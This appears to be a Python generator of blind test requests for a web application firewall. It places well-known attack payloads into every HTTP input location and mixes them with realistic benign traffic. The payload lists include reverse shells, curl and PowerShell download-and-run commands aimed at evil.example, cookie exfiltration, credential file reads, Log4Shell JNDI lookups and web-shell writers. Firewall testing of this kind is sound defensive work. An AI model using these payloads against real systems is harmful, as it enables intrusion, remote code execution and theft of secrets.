"""Fifth blind set: WHERE an attack sits, not which family it is. Ordinary, well-known payloads of seven
families (SQL injection, XSS, OS command injection for Unix and Windows, path traversal / local file
inclusion, PHP injection, Java (JNDI lookups, OGNL, SpEL, serialized objects) and server-side template
injection) are each put into every input place an API gateway sees: the URL path, parameter NAMES (query,
form, JSON keys at the top and nested), JSON arrays and deeply nested documents, cookies (name and value),
User-Agent, Referer, a custom X- header, X-Forwarded-For, multipart parts (text field, a file's name and
its content), XML (element text and attribute), text/plain bodies and bodies with no Content-Type, a GET
with a JSON body, repeated and bracketed parameters, double percent-encoding, IIS %u encoding, and a
payload split across two parameters of the same name.

Written for this repository by an independent author from general knowledge of each family and of how
HTTP clients encode each place: no payload list of another generator here, no WAF rule (ours or the CRS's)
and no ruleset regression test or public payload collection was read. The benign requests use the same
places with realistic traffic (browser user agents, search-engine referers, cookie-consent and analytics
cookies, uploads of text files and photos, XML orders, Elasticsearch-style GET bodies, JSON:API brackets,
legacy JavaScript escape() output). Same record schema as family_gen.py (id, category, sub = the
placement, placement; attacks also carry their `payload`); deterministic.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from .family_gen import UA, _form, _get, _json, _query
from .records import print_records

# --- payloads (ordinary, well-known shapes of each family) -------------------------------------------------

SQLI = [
    "' OR '1'='1",
    "1' OR 1=1-- -",
    "admin'--",
    "admin' #",
    "1 UNION SELECT username, password FROM users--",
    "' UNION SELECT NULL,NULL,NULL--",
    "-1 UNION ALL SELECT table_name,2 FROM information_schema.tables",
    "1; DROP TABLE users--",
    "1 AND SLEEP(5)",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "'; WAITFOR DELAY '0:0:5'--",
    "' OR pg_sleep(5)--",
    "1 AND 1=CONVERT(int,(SELECT @@version))",
    "' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -",
    "1' AND updatexml(1,concat(0x7e,version()),1)-- -",
    "1' ORDER BY 3-- -",
    "\" OR \"\"=\"",
    "1 OR 1=1",
    "') OR ('a'='a",
    "1' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a",
    "1 AND ASCII(SUBSTR((SELECT database()),1,1))>64",
    "1; EXEC xp_cmdshell('dir')--",
]

XSS = [
    "<script>alert(1)</script>",
    "\"><script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "'><svg/onload=confirm(1)>",
    "<body onload=alert('xss')>",
    "javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<img src=1 onerror=\"fetch('//evil.example/c?'+document.cookie)\">",
    "<div onmouseover=\"alert(1)\">hover me</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<script src=\"https://evil.example/x.js\"></script>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<video><source onerror=\"alert(1)\">",
    "<marquee onstart=alert(1)>",
    "<ScRiPt>eval(atob('YWxlcnQoMSk='))</ScRiPt>",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "\"-alert(1)-\"",
]

RCE_UNIX = [
    "; cat /etc/passwd",
    "| id",
    "&& whoami",
    "$(id)",
    "`uname -a`",
    "; nc -e /bin/sh 10.0.0.1 4444",
    "| bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; curl http://evil.example/x.sh | sh",
    "; wget http://evil.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
    "127.0.0.1; ls -la /",
    "$(curl -s evil.example/p|sh)",
    ";${IFS}cat${IFS}/etc/shadow",
    "|| ping -c 3 10.0.0.1",
]

RCE_WINDOWS = [
    "& dir C:\\",
    "| type C:\\Windows\\win.ini",
    "&& net user",
    "; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"",
    "| cmd.exe /c whoami",
    "& ipconfig /all",
    "&& certutil -urlcache -split -f http://evil.example/a.exe a.exe",
    "| powershell -enc SQBFAFgA",
    "127.0.0.1 & net localgroup administrators",
    "& systeminfo",
    "| tasklist /v",
]

LFI = [
    "../../../../etc/passwd",
    "../../../../../../etc/shadow",
    "/etc/passwd",
    "/../../../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "../../../etc/passwd%00.png",
    "../../../../etc/group",
    "..\\..\\..\\windows\\win.ini",
    "C:\\Windows\\win.ini",
    "c:/windows/system32/config/sam",
    "../../../../windows/system32/drivers/etc/hosts",
    "../../../../boot.ini",
    "/proc/self/environ",
    "../../../../proc/self/cmdline",
    "file:///etc/passwd",
    "/var/log/apache2/access.log",
    "../../.ssh/id_rsa",
    "../../../.env",
]

PHP = [
    "<?php system($_GET['c']); ?>",
    "<?php echo shell_exec('id'); ?>",
    "<?= passthru('ls') ?>",
    "phpinfo();",
    "system('id');",
    "${@eval($_POST[1])}",
    "eval(base64_decode('cGhwaW5mbygpOw=='));",
    "assert($_REQUEST['x'])",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://input",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
    "expect://id",
    "phar://uploads/avatar.jpg/test.txt",
    "zip://uploads/a.zip#shell.php",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "file_put_contents('shell.php','<?php eval($_POST[x]);?>');",
    "preg_replace('/.*/e','system(\"id\")','')",
    "call_user_func('system','id')",
    "';exec($_GET[0]);//",
    "include($_GET['page']);",
    "create_function('', 'system(\"id\");')",
]

JAVA = [
    "${jndi:ldap://evil.example:1389/a}",
    "${jndi:rmi://evil.example:1099/obj}",
    "${jndi:dns://evil.example/x}",
    "${jndi:ldaps://evil.example/a}",
    "${jndi:iiop://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
    "${jndi:ldap://${env:USER}.evil.example/a}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec(\"id\")}",
    "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}",
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(\"id\").start()",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.System).getenv()}",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
]

SSTI = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "${{7*7}}",
    "<%= 7*7 %>",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ url_for.__globals__.os.environ }}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "<%= system('id') %>",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{php}echo `id`;{/php}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
]

FAMILIES: dict[str, list[str]] = {"sqli": SQLI, "xss": XSS, "rce": RCE_UNIX + RCE_WINDOWS, "lfi": LFI,
                                  "php": PHP, "java": JAVA, "ssti": SSTI}

# --- routes each request shape goes to (methods each route allows; a few paths no route matches) -------------

GET_PATHS = ["/api/users", "/api/orders", "/admin/users", "/me/profile", "/search", "/v2/catalog/items"]
PATH_PREFIXES = ["/api/users/", "/api/orders/", "/admin/users/", "/me/", "/files/", "/v1/products/"]
FORM_TARGETS = [("POST", "/api/users"), ("POST", "/admin/users/search"), ("POST", "/me/settings"),
                ("POST", "/oauth/token"), ("POST", "/verify_token"), ("POST", "/contact")]
JSON_TARGETS = [("POST", "/api/users"), ("PUT", "/api/orders/42"), ("PATCH", "/api/users/42"),
                ("POST", "/verify_token"), ("POST", "/me/preferences"), ("POST", "/admin/reports"),
                ("POST", "/oauth/token"), ("POST", "/graphql")]
UPLOAD_PATHS = ["/api/uploads", "/admin/import", "/me/avatar", "/upload"]
XML_TARGETS = [("POST", "/api/orders"), ("PUT", "/api/orders/1001"), ("POST", "/admin/import/xml"),
               ("POST", "/verify_token"), ("POST", "/soap/InventoryService")]
TEXT_TARGETS = [("POST", "/api/notes"), ("PUT", "/api/notes/7"), ("POST", "/admin/notes"),
                ("POST", "/me/feedback"), ("POST", "/logs/ingest")]
SEARCH_PATHS = ["/api/search", "/api/products", "/admin/audit", "/me/history", "/catalog/search"]

QUERY_NAMES = ["filter", "sort", "id", "term", "lang", "view", "file", "template"]
HEADER_NAMES = ["X-Client-Info", "X-Tenant", "X-Correlation-Id", "X-Search", "X-Device", "X-Locale"]
BRACKET_NAMES = ["user[name]", "filter[status]", "order[note]", "items[0][sku]", "page[cursor]", "meta[tag]"]
# (no "profile" on the way down: CRS 930120 reads the flattened name "json.data.attributes.profile..." as the
# shell start-up file .profile and blocks every such document, whatever its value; benign "nested_profile")
DEEP_KEYS = ["data", "attributes", "account", "settings", "notifications", "email", "template", "body"]

BOUNDARY = "----WebKitFormBoundaryq7Xb3KpN2vR9tZ4s"
CHROME_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/126.0.0.0 Safari/537.36")


# --- request builders ---------------------------------------------------------------------------------------

def _headers(**extra: str) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": "application/json", **extra}


def _req(method: str, uri: str, body: str = "", **headers: str) -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": _headers(**headers)}


def _json_to(target: tuple[str, str], doc: Any) -> dict[str, Any]:
    method, uri = target
    return {**_json(uri, doc), "method": method}


def _form_to(target: tuple[str, str], fields: list[tuple[str, str]]) -> dict[str, Any]:
    method, uri = target
    return {**_form(uri, fields), "method": method}


def _cookie_name(name: str) -> str:
    """A cookie name as a script writing document.cookie would keep it: only the characters that end a
    name or a pair (and the escape character itself) are percent-encoded."""
    return "".join(urllib.parse.quote(c, safe="") if c in "%;=, \t\"\\" else c for c in name)


def _u_encode(text: str) -> str:
    """IIS-style %uXXXX encoding of every character but letters and digits."""
    return "".join(c if c.isascii() and c.isalnum() else f"%u{ord(c):04X}" for c in text)


def _split(text: str) -> tuple[str, str]:
    """Two halves of `text`, cut at the space nearest its middle (else the middle)."""
    mid = len(text) // 2
    spaces = [i for i, c in enumerate(text) if c == " " and 0 < i < len(text) - 1]
    cut = min(spaces, key=lambda i: abs(i - mid)) if spaces else max(mid, 1)
    return text[:cut], text[cut:]


def _deep(keys: list[str], leaf: Any) -> Any:
    doc = leaf
    for key in reversed(keys):
        doc = {key: doc}
    return doc


def _filename(name: str) -> str:
    """A file name as browsers put it in Content-Disposition (quote and line breaks percent-encoded)."""
    return name.replace("\"", "%22").replace("\r", "%0D").replace("\n", "%0A")


def _multipart(uri: str, fields: list[tuple[str, str]], files: list[tuple[str, str, str, str]],
               method: str = "POST", **headers: str) -> dict[str, Any]:
    """multipart/form-data as a browser sends it: fields (name, value), files (field, filename, type, content)."""
    parts = [f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
             for name, value in fields]
    parts += [f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{_filename(fn)}\"\r\n"
              f"Content-Type: {ctype}\r\n\r\n{content}\r\n" for field, fn, ctype, content in files]
    body = "".join(parts) + f"--{BOUNDARY}--\r\n"
    return _req(method, uri, body, **{"Content-Type": f"multipart/form-data; boundary={BOUNDARY}",
                                      "Accept": "text/html,application/xhtml+xml", **headers})


def _xml(target: tuple[str, str], doc: str) -> dict[str, Any]:
    method, uri = target
    return _req(method, uri, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + doc,
                **{"Content-Type": "application/xml", "Accept": "application/xml"})


# Each placement: (payload, index) -> request. Attacks and benign values go through the same builders.

def p_path(v: str, i: int) -> dict[str, Any]:
    return _get(PATH_PREFIXES[i % len(PATH_PREFIXES)] + urllib.parse.quote(v, safe=""))


def p_query_name(v: str, i: int) -> dict[str, Any]:
    return _get(_query(GET_PATHS[i % len(GET_PATHS)], [(v, "1"), ("page", "2")]))


def p_form_name(v: str, i: int) -> dict[str, Any]:
    return _form_to(FORM_TARGETS[i % len(FORM_TARGETS)], [("csrf_token", "t0k3n"), (v, "on")])


def p_json_key(v: str, i: int) -> dict[str, Any]:
    return _json_to(JSON_TARGETS[i % len(JSON_TARGETS)], {"email": "a@example.org", v: "1"})


def p_json_key_nested(v: str, i: int) -> dict[str, Any]:
    return _json_to(JSON_TARGETS[(i + 1) % len(JSON_TARGETS)],
                    {"user": {"id": 42, "preferences": {"theme": "dark", v: True}}})


def p_json_array(v: str, i: int) -> dict[str, Any]:
    return _json_to(JSON_TARGETS[(i + 2) % len(JSON_TARGETS)],
                    {"name": "batch", "items": ["alpha", "beta", v, "delta"]})


def p_json_deep(v: str, i: int) -> dict[str, Any]:
    depth = 5 + i % 4   # 5 to 8 levels
    return _json_to(JSON_TARGETS[(i + 3) % len(JSON_TARGETS)], {"version": 2, **_deep(DEEP_KEYS[:depth], v)})


def p_cookie_name(v: str, i: int) -> dict[str, Any]:
    rec = _get(_query(GET_PATHS[i % len(GET_PATHS)], [("page", "1")]))
    return {**rec, "headers": _headers(Cookie=f"session=abc123; {_cookie_name(v)}=1; theme=dark")}


def p_cookie_value(v: str, i: int) -> dict[str, Any]:
    rec = _get(_query(GET_PATHS[(i + 1) % len(GET_PATHS)], [("page", "1")]))
    return {**rec, "headers": _headers(Cookie=f"session=abc123; prefs={urllib.parse.quote(v, safe='')}")}


def p_user_agent(v: str, i: int) -> dict[str, Any]:
    rec = _get(_query(GET_PATHS[(i + 2) % len(GET_PATHS)], [("page", "1")]))
    return {**rec, "headers": {**rec["headers"], "User-Agent": v if i % 2 == 0 else f"{CHROME_UA} {v}"}}


def p_referer(v: str, i: int) -> dict[str, Any]:
    rec = _get(_query(GET_PATHS[(i + 3) % len(GET_PATHS)], [("page", "1")]))
    ref = v if i % 2 == 0 else "https://www.example.com/search?q=" + urllib.parse.quote(v, safe="")
    return {**rec, "headers": {**rec["headers"], "Referer": ref}}


def p_x_header(v: str, i: int) -> dict[str, Any]:
    rec = _get(_query(GET_PATHS[(i + 4) % len(GET_PATHS)], [("page", "1")]))
    return {**rec, "headers": {**rec["headers"], HEADER_NAMES[i % len(HEADER_NAMES)]: v}}


def p_x_forwarded_for(v: str, i: int) -> dict[str, Any]:
    rec = _get(_query(GET_PATHS[(i + 5) % len(GET_PATHS)], [("page", "1")]))
    return {**rec, "headers": {**rec["headers"], "X-Forwarded-For": v}}


def p_multipart_field(v: str, i: int) -> dict[str, Any]:
    return _multipart(UPLOAD_PATHS[i % len(UPLOAD_PATHS)], [("title", "Quarterly notes"), ("comment", v)],
                      [("file", "notes.txt", "text/plain", "Meeting moved to Thursday.\n")])


def p_multipart_filename(v: str, i: int) -> dict[str, Any]:
    return _multipart(UPLOAD_PATHS[(i + 1) % len(UPLOAD_PATHS)], [("title", "Upload")],
                      [("file", v, "text/plain", "hello\n")])


def p_multipart_content(v: str, i: int) -> dict[str, Any]:
    return _multipart(UPLOAD_PATHS[(i + 2) % len(UPLOAD_PATHS)], [("title", "Upload")],
                      [("file", "report.txt", "text/plain", v + "\n")])


def p_xml_text(v: str, i: int) -> dict[str, Any]:
    return _xml(XML_TARGETS[i % len(XML_TARGETS)],
                f"<order><id>1001</id><customer>Ann</customer><note>{escape(v)}</note></order>")


def p_xml_attr(v: str, i: int) -> dict[str, Any]:
    # the attribute on an inner element: a first run put it beside id="1001" on the root, and ordinary root
    # attributes (id=, version=, xmlns=) got the document blocked whatever it said (our 141150; benign
    # "xml_root_attr"), which hid whether the payload itself was seen
    return _xml(XML_TARGETS[(i + 1) % len(XML_TARGETS)],
                f"<order><id>1001</id><item sku=\"A-17\" label={quoteattr(v)}>2</item></order>")


def p_text_body(v: str, i: int) -> dict[str, Any]:
    method, uri = TEXT_TARGETS[i % len(TEXT_TARGETS)]
    return _req(method, uri, v, **{"Content-Type": "text/plain; charset=utf-8"})


def p_no_content_type(v: str, i: int) -> dict[str, Any]:
    method, uri = TEXT_TARGETS[(i + 1) % len(TEXT_TARGETS)]
    return _req(method, uri, v)


def p_get_json_body(v: str, i: int) -> dict[str, Any]:
    return _req("GET", SEARCH_PATHS[i % len(SEARCH_PATHS)], json.dumps({"query": {"match": {"title": v}}, "size": 10}),
                **{"Content-Type": "application/json"})


def p_repeated_param(v: str, i: int) -> dict[str, Any]:
    name = QUERY_NAMES[i % len(QUERY_NAMES)]
    return _get(_query(SEARCH_PATHS[(i + 1) % len(SEARCH_PATHS)], [(name, "1"), (name, v)]))


def p_bracket_param(v: str, i: int) -> dict[str, Any]:
    name = BRACKET_NAMES[i % len(BRACKET_NAMES)]
    if i % 2:
        return _form_to(FORM_TARGETS[i % len(FORM_TARGETS)], [("csrf_token", "t0k3n"), (name, v)])
    # in a query the brackets raw, as browsers send a typed or linked URL; in a form body encoded
    return _get(f"{SEARCH_PATHS[(i + 2) % len(SEARCH_PATHS)]}?{name}={urllib.parse.quote(v, safe='')}&page[size]=20")


def p_double_encoded(v: str, i: int) -> dict[str, Any]:
    name = QUERY_NAMES[(i + 3) % len(QUERY_NAMES)]
    encoded = urllib.parse.quote(urllib.parse.quote(v, safe=""), safe="")
    return _get(SEARCH_PATHS[(i + 3) % len(SEARCH_PATHS)] + f"?{name}={encoded}&page=1")


def p_u_encoded(v: str, i: int) -> dict[str, Any]:
    name = QUERY_NAMES[(i + 4) % len(QUERY_NAMES)]
    return _get(SEARCH_PATHS[(i + 4) % len(SEARCH_PATHS)] + f"?{name}={_u_encode(v)}&page=1")


def p_split_param(v: str, i: int) -> dict[str, Any]:
    name = QUERY_NAMES[(i + 5) % len(QUERY_NAMES)]
    head, tail = _split(v)
    return _get(_query(GET_PATHS[i % len(GET_PATHS)], [(name, head), (name, tail)]))


PLACEMENTS: dict[str, Callable[[str, int], dict[str, Any]]] = {
    "path": p_path, "query_name": p_query_name, "form_name": p_form_name, "json_key": p_json_key,
    "json_key_nested": p_json_key_nested, "json_array": p_json_array, "json_deep": p_json_deep,
    "cookie_name": p_cookie_name, "cookie_value": p_cookie_value, "user_agent": p_user_agent,
    "referer": p_referer, "x_header": p_x_header, "x_forwarded_for": p_x_forwarded_for,
    "multipart_field": p_multipart_field, "multipart_filename": p_multipart_filename,
    "multipart_content": p_multipart_content, "xml_text": p_xml_text, "xml_attr": p_xml_attr,
    "text_body": p_text_body, "no_content_type": p_no_content_type, "get_json_body": p_get_json_body,
    "repeated_param": p_repeated_param, "bracket_param": p_bracket_param, "double_encoded": p_double_encoded,
    "u_encoded": p_u_encoded, "split_param": p_split_param,
}


def attacks() -> Iterator[dict[str, Any]]:
    """Every payload of every family in every placement."""
    for family, payloads in FAMILIES.items():
        n = 0
        for i, payload in enumerate(payloads):
            for placement, build in PLACEMENTS.items():
                n += 1
                rec = {**build(payload, i), "id": f"fifth-{family}-{n:04d}", "category": family,
                       "sub": placement, "placement": placement, "payload": payload}
                if family == "rce":
                    rec["variant"] = "unix" if payload in RCE_UNIX else "windows"
                yield rec


# --- benign: the same places with ordinary traffic -----------------------------------------------------------

BENIGN_VALUES: dict[str, list[str]] = {
    "path": ["42", "1000234", "3f2b9c1e-8a4d-4e7b-9c2a-1d5e6f7a8b9c", "summer-sale-2024", "ann.oneil@example.org",
             "2024-06-12", "john.smith", "v1.2.3", "report_Q3_final.pdf", "café-du-monde", "hello world",
             "O'Brien", "AT&T", "size 10.5 (wide)", "2024-06-12T10:15:30Z"],
    "query_name": ["page", "per_page", "sort", "utm_source", "fields", "include", "since", "lang", "fbclid",
                   "filter.status", "gclid", "_", "callback_id", "expand", "order_by"],
    "form_name": ["first_name", "last_name", "email", "phone", "address_line1", "postal_code", "newsletter",
                  "remember_me", "terms_accepted", "company", "job_title", "country", "message", "subject",
                  "g-recaptcha-response"],
    "json_key": ["firstName", "shipping_address", "isActive", "created_at", "@context", "$schema", "user-agent",
                 "x-request-id", "timezone", "locale", "phoneNumber", "order_id", "__typename", "etag",
                 "select"],
    "json_key_nested": ["emailDigest", "pushEnabled", "language", "fontSize", "darkMode", "weekStart",
                        "currency", "dateFormat", "autoplay", "compact_view", "show_avatars", "sms",
                        "marketing_opt_in", "two_factor", "from"],
    "json_array": ["gamma", "shoes", "red", "2024-06-12", "ann@example.org", "summer sale", "C++", "node.js",
                   "rock & roll", "it's fine", "50% off", "v2.0", "#hashtag", "@mention", "key=value"],
    "json_deep": ["Weekly summary", "every monday at 9am", "enabled", "Hi {first_name}, your order shipped!",
                  "Dear customer,\nThanks for your order.", "https://example.com/unsubscribe?u=42",
                  "Europe/Berlin", "Order #1001 - confirmation", "daily", "<b>Sale</b> ends Friday",
                  "en-US", "Reply to: support@example.com", "1,234.56 EUR", "See you soon :)", "none"],
    "cookie_name": ["_ga", "_gid", "_fbp", "locale", "theme", "cart_id", "csrftoken", "remember_me",
                    "cookieconsent_status", "tz", "recently_viewed", "ajs_anonymous_id", "AWSALB", "JSESSIONID",
                    "__stripe_mid"],
    "cookie_value": ["GA1.2.1234567890.1718000000", "en-US", "dark", "c7f1e0a2-55b1-4d3e-9a77-0b2d9c1f3e40",
                     "123,456,789", "Europe/Berlin", "dismiss", "fb.1.1718000000000.1234567890",
                     "{\"necessary\":true,\"analytics\":false}", "1", "s%3Aabc.def", "last_seen=2024-06-12",
                     "Ann O'Neil", "gbp", "page=2&sort=price"],
    "user_agent": [
        CHROME_UA,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.5 Safari/605.1.15",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.6478.71 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.68",
        UA,
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.5.0", "okhttp/4.12.0", "python-requests/2.32.3", "PostmanRuntime/7.39.0",
        "MyShop/5.12.0 (iPhone; iOS 17.5.1; Scale/3.00)", "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 "
        "Safari/537.36",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    ],
    "referer": [
        "https://www.google.com/search?q=wireless+headphones&oq=wireless&sourceid=chrome&ie=UTF-8",
        "https://shop.example.com/products?category=shoes&size=42&sort=price_asc",
        "https://t.co/AbC123xyz",
        "https://news.ycombinator.com/item?id=40612345",
        "https://mail.google.com/mail/u/0/#inbox",
        "https://www.bing.com/search?q=select+all+rows+in+excel&form=QBLH",
        "https://example.org/search?q=O%27Reilly+books&page=2",
        "https://duckduckgo.com/?q=how+to+cat+a+file+in+linux&ia=web",
        "https://www.example.com/checkout/step-2?cart=abc123&coupon=SUMMER24",
        "android-app://com.google.android.gm/",
        "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2F&h=AT0abc",
        "https://admin.example.com/admin/users?filter[role]=editor&sort=-created_at",
        "https://www.reddit.com/r/webdev/comments/1d9xyz/best_way_to_handle_file_uploads/",
        "https://docs.example.com/guide/install#step-3",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    ],
    "x_header": ["9b2e6f1c-3d4a-4b5c-8e7f-0a1b2c3d4e5f", "ios/5.12.0 (build 3481)", "acme-corp",
                 "iPhone14,2; iOS 17.5.1", "America/New_York", "en-GB,en;q=0.9", "XMLHttpRequest",
                 "web-2024.06.12-a1b2c3d", "dark; compact", "1718000000123", "shoes size:42", "beta",
                 "Ann O'Neil", "no-cache", "checkout/v2"],
    "x_forwarded_for": ["203.0.113.7", "198.51.100.23, 10.0.0.5", "2001:db8::1", "192.0.2.44, 172.16.0.3, 10.1.2.3",
                        "203.0.113.195, 70.41.3.18, 150.172.238.178", "10.0.0.1", "192.0.2.1:4711",
                        "[2001:db8:cafe::17]:4711", "198.51.100.7", "unknown", "203.0.113.9, unknown",
                        "100.64.0.12", "192.168.1.20", "::ffff:192.0.2.128", "203.0.113.250"],
    "multipart_field": ["Looks good to me, ship it!", "Ann O'Neil", "Please find the Q3 numbers attached.",
                        "Size: 42 (EU) / 8.5 (US)", "Meeting notes - 12 June", "AT&T invoice #4471",
                        "50% deposit paid; balance due on delivery", "café receipts", "Draft v2 - do not share",
                        "Line one\r\nLine two", "https://example.com/docs?page=2", "Yes", "2024-06-12",
                        "Replaces the file from last week", "C:/Users/ann/Documents"],
    "multipart_filename": ["notes.txt", "IMG_20240612_101522.jpg", "Screenshot 2024-06-12 at 10.15.22.png",
                           "Q3 report - final (v2).csv", "O'Brien invoice.txt", "photo #3.jpeg", "my_cat.gif",
                           "résumé.txt", "README.md", "data-2024-06.json", "scan0001.tif", "shopping list.txt",
                           "IMG_0042.HEIC", "agenda [draft].txt", "export (1).xlsx"],
    "multipart_content": ["Meeting moved to Thursday.\nBring the slides.\n",
                          "id,name,email\n1,Ann,ann@example.org\n2,Bob,bob@example.org\n",
                          "# Project\n\nRun `make test` before pushing.\n",
                          "2024-06-12 10:15:22 INFO started worker 3\n2024-06-12 10:15:23 INFO ready\n",
                          "Dear team,\n\nThe office is closed on Friday.\n\nBest,\nAnn\n",
                          "milk\neggs\nbread\nbutter\n", "{\"name\": \"Ann\", \"tags\": [\"a\", \"b\"]}\n",
                          "host = db.internal\nport = 5432\n", "To do:\n- call the bank\n- renew passport\n",
                          "Total: 1,234.56 EUR (incl. 19% VAT)\n", "Q: Where is my order?\nA: It shipped today.\n",
                          "lorem ipsum dolor sit amet\n", "Chapter 1\n\nIt was a bright cold day in April.\n",
                          "temperature,humidity\n21.5,40\n22.0,42\n", "Thanks & regards,\nO'Neil\n"],
    "xml_text": ["Please leave at the back door", "Ann O'Neil", "Gift wrap: yes", "2 x Coffee & Cake",
                 "Deliver after 5pm", "<b>bold</b> is fine", "Size 42 (EU)", "Call before delivery: +49 30 1234567",
                 "Order #1001", "Café au lait", "Fragile - glass", "none", "50% paid",
                 "Ring twice", "C:/exports/orders.csv"],
    "xml_attr": ["Blue T-Shirt (M)", "Coffee & Cake", "Ann's gift", "A-17", "2024-06-12", "\"Classic\" mug",
                 "Size 10.5", "café crème", "Set of 3", "USB-C cable 2m", "100% cotton", "Red/Green",
                 "Book: SQL for beginners", "Item #4", "x-large"],
    "text_body": ["Meeting notes: ship on Friday.", "2024-06-12 10:15:22 INFO user 42 logged in",
                  "Hello, I would like to return my order #1001.", "id,name\n1,Ann\n2,Bob\n",
                  "The quick brown fox jumps over the lazy dog.", "Reminder: update the select box labels.",
                  "Remember to drop by the office and pick up the union card.", "ok",
                  "CPU at 93%, memory 71%", "Line one\nLine two\nLine three", "Customer says: it's broken :(",
                  "## Release notes\n- fixed login\n- faster search", "Bonjour, ça va ?",
                  "Please call me back at 555-0100.", "Order status: shipped & delivered"],
    "no_content_type": ["ping", "hello", "Thanks for the quick reply!", "1718000000", "status=ok",
                        "Good morning team", "heartbeat 42", "done", "Ann O'Neil", "test message",
                        "2024-06-12", "yes please", "order 1001 confirmed", "beacon", "refresh"],
    "get_json_body": ["quick brown fox", "wireless headphones", "O'Reilly", "summer sale 2024", "café",
                      "red shoes size 42", "how to reset password", "invoice #4471", "AT&T", "USB-C",
                      "select a plan", "drop-in replacement", "50% off", "union jack flag", "script writing"],
    "repeated_param": ["2", "blue", "shoes", "en", "price", "3", "xl", "new", "2024-06-13", "sale", "42", "b",
                       "ann@example.org", "summer-sale", "desc"],
    "bracket_param": ["Ann O'Neil", "active", "Leave at the door", "SKU-1001", "eyJpZCI6MTAwfQ", "sale", "editor",
                      "2024-06-12", "Berlin", "42", "title,body", "-created_at", "red", "gift", "en-US"],
    "double_encoded": ["/dashboard?tab=billing", "50% off", "report Q3.pdf", "a&b", "/search?q=shoes&size=42",
